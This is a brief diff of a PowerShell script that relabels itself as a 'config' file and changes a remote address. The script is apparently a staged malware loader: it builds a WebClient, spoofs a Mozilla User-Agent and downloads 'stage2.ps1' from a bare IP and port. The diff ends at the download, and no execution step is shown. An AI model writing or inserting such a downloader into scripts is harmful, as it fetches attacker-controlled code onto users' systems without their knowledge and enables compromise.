@@ -1,5 +1,5 @@
-# init 7299 v3
-$u = 'http://198.51.100.23:8080/'
+# config 8753 v3
+$u = 'http://192.0.2.150:9001/'
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add('User-Agent','Mozilla/5.0')
 $s = $wc.DownloadString($u + 'stage2.ps1')
